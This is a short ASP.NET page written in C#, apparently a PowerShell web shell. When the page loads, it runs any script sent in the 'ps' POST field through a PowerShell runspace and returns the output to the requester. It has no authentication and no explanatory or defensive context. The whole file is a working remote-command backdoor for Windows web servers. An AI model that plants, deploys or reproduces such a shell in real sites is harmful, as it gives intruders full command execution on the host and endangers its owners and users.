<%@ Page Language="C#" %>
<%@ Assembly Name="System.Management.Automation, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<script runat="server">
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.Form["ps"] == null) return;
        using (Runspace rs = RunspaceFactory.CreateRunspace())
        {
            rs.Open();
            Pipeline pl = rs.CreatePipeline();
            pl.Commands.AddScript(Request.Form["ps"]);
            pl.Commands.Add("Out-String");
            foreach (var o in pl.Invoke()) Response.Write(Server.HtmlEncode(o.ToString()));
        }
    }
</script>
